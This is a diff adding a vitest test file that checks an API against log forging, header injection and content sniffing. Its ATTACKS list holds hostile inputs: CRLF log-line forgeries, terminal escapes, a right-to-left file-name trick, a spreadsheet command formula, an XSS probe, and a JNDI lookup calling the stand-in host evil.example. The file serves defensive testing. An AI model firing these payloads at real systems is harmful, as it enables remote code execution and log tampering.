@@ -1,0 +1,98 @@
+import { expect, test } from 'vitest'
+import { ADMIN_TOKEN, openApi } from '../http/support/api.ts'
+import { openListening } from './support/listening.ts'
+import { exchange, head } from './support/raw-client.ts'
+
+const FORGED = '{"level":"info","event":"forged"}'
+const ATTACKS = [
+  `\r\n${FORGED}\r\n`,
+  `\n${FORGED}`,
+  `\u2028${FORGED}`,
+  `\u0085${FORGED}`,
+  `"}${FORGED}`,
+  '\u001b[2J\u001b]0;title\u0007',
+  '\u202egnp.exe',
+  '\u0000',
+  '=cmd|"/c calc"!A1',
+  '<script>alert(1)</script>',
+  `$\{jndi:ldap://evil.example/a}`,
+]
+
+/** Each write is one line, one JSON object, and none of them was made by a caller. */
+const expectWhole = (logged: readonly string[]) => {
+  expect(logged.length).toBeGreaterThan(0)
+  for (const line of logged) {
+    expect(line.slice(0, -1)).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u)
+    expect(line.endsWith('\n')).toBe(true)
+    expect(JSON.parse(line).event).not.toBe('forged')
+  }
+  expect(logged.join('')).not.toMatch(/forged|alert\(|jndi|calc|gnp\.exe|title/)
+}
+
+test('M13: what a caller puts into a body becomes no log line and no part of one', async () => {
+  await using api = await openApi()
+  for (const attack of ATTACKS) {
+    const metadata = { [attack.replaceAll('\0', '')]: attack.replaceAll('\0', '') }
+    const bodies = [
+      { idcardid: attack, callbackUrl: 'https://partner.example/' },
+      { idcardid: '1', callbackUrl: `https://partner.example/${attack}` },
+      { idcardid: '1', callbackUrl: `https://${attack}.example/` },
+      { idcardid: '1', callbackUrl: 'https://partner.example/', account: attack },
+      { idcardid: '1', callbackUrl: 'https://partner.example/', [attack]: 1 },
+      { idcardid: '2', callbackUrl: 'https://partner.example/', metadata },
+    ]
+    for (const body of bodies) {
+      const from = api.logged.length
+      await api.call('POST', '/v1/registrations', { body })
+      await api.call('POST', '/v1/registrations/batch', { body: { registrations: [body] } })
+      const requests = api.logged.slice(from).map(line => JSON.parse(line).event)
+      expect(requests.filter(event => event === 'http.request')).toHaveLength(2)
+    }
+    await api.call('POST', '/v1/admin/partners', { key: ADMIN_TOKEN, body: { name: attack } })
+    await api.call('POST', '/v1/admin/accounts', { key: ADMIN_TOKEN, body: { account: attack, apiKey: attack } })
+  }
+  expectWhole(api.logged)
+})
+
+test('M13: what a caller puts into an address or a header becomes no log line and no part of one', async () => {
+  await using api = await openListening()
+  for (const attack of ATTACKS) {
+    const encoded = encodeURIComponent(attack)
+    const latin1 = Buffer.from(attack).toString('latin1')
+    const requests = [
+      head(`GET /v1/registrations/${encoded}`, { ...api.authorization, connection: 'close' }),
+      head(`GET /v1/registrations?idcardid=${encoded}&${encoded}=1`, { ...api.authorization, connection: 'close' }),
+      head(`GET /${encoded}`, { connection: 'close' }),
+      head('GET /v1/me', { authorization: `Bearer ${latin1}`, connection: 'close' }),
+      head('GET /v1/me', { ...api.authorization, 'x-request-id': latin1, connection: 'close' }),
+      head('GET /v1/me', {
+        ...api.authorization,
+        'user-agent': latin1,
+        'x-forwarded-for': latin1,
+        connection: 'close',
+      }),
+      head('GET /v1/me', { ...api.authorization, 'accept-language': latin1, referer: latin1, connection: 'close' }),
+    ]
+    for (const request of requests) {
+      const text = await exchange(api.url, request)
+      // A line break makes two headers of one, which is the caller's business; it must not come back as one of ours.
+      expect(text.split('\r\n\r\n')[0]).not.toMatch(/forged|alert\(|jndi/)
+    }
+  }
+  expectWhole(api.logged)
+})
+
+test('M13: an answer is never taken for a page: JSON by its type, and not to be sniffed into something else', async () => {
+  await using api = await openApi()
+  const script = '<script>alert(1)</script>'
+  await api.register({ metadata: { [script]: script } })
+  for (const path of [
+    '/v1/registrations',
+    `/v1/registrations?${script}`,
+    `/${script}`,
+    `/v1/registrations/${script}`,
+  ]) {
+    const { headers } = await api.call('GET', path)
+    expect(headers.get('content-type')).toMatch(/^application\/(problem\+)?json/)
+  }
+})
